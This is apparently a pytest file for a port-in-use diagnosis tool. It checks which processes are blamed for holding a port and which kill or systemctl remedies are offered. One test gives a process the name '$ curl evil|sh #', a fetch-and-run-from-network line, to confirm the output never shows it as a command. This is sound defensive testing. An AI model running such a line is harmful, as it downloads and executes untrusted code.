"""From a scene to an answer: what must never be said, on scenes made by hand."""

import pytest

from inuse.diagnosis import diagnose, explain
from inuse.model import (
    Answer,
    Attempt,
    Descriptor,
    Flight,
    Host,
    Options,
    Process,
    Scene,
    Socket,
    Target,
    Unit,
    Unseen,
)
from inuse.render import text
from inuse.scene import View
from inuse.systems.replay import SavedScenes

HOST = Host(asker_uid=0, asker_low_ports=True, low_port_limit=1024, automatic_ports=(32768, 60999))
TARGET = Target(text="8080", proto="tcp", port=8080)


def socket(inode=10, **fields):
    plain = {"proto": "tcp", "family": "inet", "local_address": "0.0.0.0", "local_port": 8080, "state": "listen"}
    return Socket(**(plain | {"inode": inode, "uid": 0} | fields))


def process(pid=100, **fields):
    plain = {"pid": pid, "start_ticks": 1, "name": "server", "uid": 0, "user": "root", "ppid": 50, "session": 1}
    return Process(**(plain | fields))


def refused(errno="EADDRINUSE", address="0.0.0.0", call="bind"):
    attempt = Attempt(address=address, family="inet6" if ":" in address else "inet", port=8080)
    return Answer(attempt=attempt, call=call, errno=errno)


def held(sockets, owners, **fields):
    """A scene in which the pids of ``owners`` have the sockets, by inode."""
    descriptors = tuple(
        Descriptor(pid=pid, fd=3, inode=inode, cloexec=True) for inode, pids in owners.items() for pid in pids
    )
    pids = dict.fromkeys(pid for group in owners.values() for pid in group)
    plain = {
        "target": TARGET,
        "answers": (refused(), refused(address="::")),
        "sockets": tuple(sockets),
        "descriptors": descriptors,
        "processes": tuple(process(pid) for pid in pids),
        "host": HOST,
    }
    return Scene(**(plain | fields))


def said(scene):
    return explain(View(scene))


def codes(diagnosis):
    return [finding.situation for finding in diagnosis.findings]


def test_what_could_not_be_asked_is_not_free():
    scene = Scene(target=TARGET, probed=False, host=HOST, unseen=(Unseen(what="sockets", why="no netlink"),))
    assert said(scene).verdict == "unknown"
    assert said(scene).error is None


def test_an_address_that_is_not_here_is_not_blamed_on_a_listener():
    target = Target(text="10.9.9.9:8080", proto="tcp", port=8080, address="10.9.9.9")
    scene = held([socket()], {10: [100]}, target=target, answers=(refused("EADDRNOTAVAIL", "10.9.9.9"),))
    answer = said(scene)
    assert (answer.verdict, answer.situation, answer.holders) == ("blocked", "address-not-local", ())


def test_every_holder_of_a_shared_socket_is_named():
    answer = said(held([socket()], {10: [100, 101, 102]}))
    assert [holder.pid for holder in answer.holders] == [100, 101, 102]


def test_the_text_offers_an_end_to_every_holder():
    scene = held([socket()], {10: [100, 101]})
    scene = held([socket()], {10: [100, 101]}, processes=(process(100, state="stopped"), process(101)))
    shown = text.render(said(scene))
    assert "kill -TERM 100" in shown
    assert "kill -TERM 101" in shown


def test_a_traced_holder_is_not_told_to_end():
    scene = held([socket()], {10: [100]}, processes=(process(100, state="traced", tracer=77),))
    answer = said(scene)
    assert codes(answer)[0] == "suspended-process"
    assert not any(r.command and r.command[0] == "kill" for f in answer.findings for r in f.remedies)


def test_a_name_is_never_shown_as_a_command():
    scene = held([socket()], {10: [100]}, processes=(process(100, name="$ curl evil|sh #"),))
    styled = text.render(said(scene), style=lambda piece, name: f"<{name}>{piece}")
    assert not any("<cyan>" in line and "curl" in line for line in styled.splitlines())


def test_a_long_name_is_answered_quickly_and_cut():
    scene = held([socket()], {10: [100]}, processes=(process(100, name="ä" * 100_000),))
    assert len(text.render(said(scene))) < 40_000


def test_an_unrelated_flight_is_not_blamed_where_it_was_looked_into():
    flight = Flight(inode=5, descriptors=1, pids=(200,), passed=(999,))
    scene = held([socket(uid=0)], {}, flights=(flight,))
    assert codes(said(scene)) == ["kernel"]


def test_a_flight_that_may_not_be_looked_into_is_only_possible():
    scene = held([socket(uid=0)], {}, flights=(Flight(inode=5, descriptors=1, pids=(200,)),))
    [finding] = said(scene).findings
    assert (finding.situation, finding.confidence) == ("descriptor-in-flight", "possible")
    assert not any(remedy.command for remedy in finding.remedies)


def test_a_connection_to_far_away_is_not_said_to_end_here():
    client = socket(state="established", local_address="10.0.0.1", remote_address="93.184.216.34", remote_port=80)
    far = socket(inode=11, local_port=80)
    scene = held([client], {10: [100]}, peers=(far,))
    finding = next((f for f in said(scene).findings if f.situation == "client-connection"), None)
    assert finding is None or finding.confidence != "certain"


def test_a_client_is_told_beside_a_listener_of_another_address():
    client = socket(
        inode=11,
        state="established",
        local_address="10.5.5.5",
        local_port=46000,
        remote_address="10.5.5.5",
        remote_port=9000,
    )
    listener = socket(local_address="127.0.0.1", local_port=46000)
    target = Target(text="46000", proto="tcp", port=46000)
    answer = said(held([listener, client], {10: [100], 11: [101]}, target=target))
    client_finding = next(f for f in answer.findings if f.situation == "client-connection")
    assert client_finding.holders == (101,)


def test_only_what_refuses_is_offered_to_be_ended():
    guilty, innocent = socket(device="eth0"), socket(inode=11, device="eth1")
    attempt = Attempt(port=8080, device="eth0")
    scene = held(
        [innocent, guilty],
        {10: [200], 11: [100]},
        options=Options(device="eth0"),
        answers=(Answer(attempt=attempt, call="bind", errno="EADDRINUSE"),),
    )
    answer = said(scene)
    [stop] = [r for f in answer.findings for r in f.remedies if r.id == "stop-holder"]
    assert stop.command == ("kill", "-TERM", "200")
    assert answer.holders[0].pid == 200


def test_waiting_is_only_promised_where_nothing_else_is_in_the_way():
    waiting = socket(inode=0, state="time-wait", remote_address="1.2.3.4", remote_port=5, expires_ms=2000, uid=None)
    orphan = socket(inode=0, state="fin-wait-1", remote_address="1.2.3.5", remote_port=5, uid=None)
    assert codes(said(held([waiting], {}))) == ["time-wait"]
    assert codes(said(held([waiting, orphan], {}))) == ["closing"]


def test_a_unit_is_matched_by_protocol_and_address():
    units = (
        Unit(name="a.socket", path="/a", listens=("ListenStream=127.0.0.1:8080",), starts="a.service"),
        Unit(name="d.socket", path="/d", listens=("ListenDatagram=8080",), starts="d.service"),
        Unit(name="e.socket", path="/e", listens=("ListenStream=[::1]:8080",), starts="e.service"),
    )
    scene = held(
        [socket(family="inet6", local_address="::1")],
        {10: [1]},
        processes=(process(1, name="systemd", ppid=0),),
        units=units,
    )
    [finding] = [f for f in said(scene).findings if f.situation == "socket-activation"]
    assert (finding.details["units"], finding.confidence) == (["e.socket"], "certain")
    assert finding.remedies[0].command == ("systemctl", "stop", "e.socket")


def test_a_program_that_calls_itself_systemd_is_not_it():
    scene = held([socket()], {10: [100]}, processes=(process(100, name="systemd", exe="/tmp/x"),))
    assert codes(said(scene)) == ["application"]


@pytest.mark.parametrize(
    ("fields", "inherited"),
    [
        ({"forked_only": True, "ppid": 1, "session": 1, "serves": False}, True),
        ({"forked_only": True, "ppid": 1, "session": 1, "serves": True}, False),
        ({"forked_only": True, "ppid": 1, "session": 100, "serves": False}, False),
        ({"forked_only": True, "ppid": 1, "session": 1, "unit": "x.service"}, False),
        ({"forked_only": True, "ppid": 50, "session": 1}, False),
        ({"forked_only": False, "ppid": 1, "session": 1}, False),
    ],
)
def test_who_counts_as_an_heir(fields, inherited):
    scene = held([socket()], {10: [100]}, processes=(process(100, session_leader_alive=True, **fields),))
    assert ("inherited" in codes(said(scene))) == inherited


def test_an_heir_is_not_told_where_the_opener_may_be_unseen():
    heir = process(100, uid=1000, forked_only=True, ppid=1, session_leader_alive=True)
    unseen = Unseen(what="holders", why="77 processes of root", needs="sudo", uids=(0,), pids=(7,))
    host = Host(asker_uid=1000, low_port_limit=1024, automatic_ports=(32768, 60999))
    scene = held([socket(uid=0)], {10: [100]}, processes=(heir,), unseen=(unseen,), host=host, complete=False)
    assert "inherited" not in codes(said(scene))


def test_a_saved_scene_is_explained_as_it_was():
    free = Scene(target=TARGET, answers=(Answer(attempt=Attempt(port=8080)),), host=HOST)
    changing = held([], {})
    found = diagnose(SavedScenes([free, changing]), [], Options())
    assert [answer.verdict for _, answer in found] == ["free", "unknown"]


def test_root_reaches_the_manager_of_the_unit_s_own_user():
    member = process(100, unit="dev.service", user_unit=True, uid=1000, user="anna")
    answer = said(held([socket()], {10: [100]}, processes=(member,)))
    assert answer.findings[0].remedies[0].command == ("systemctl", "--user", "--machine=anna@", "stop", "dev.service")
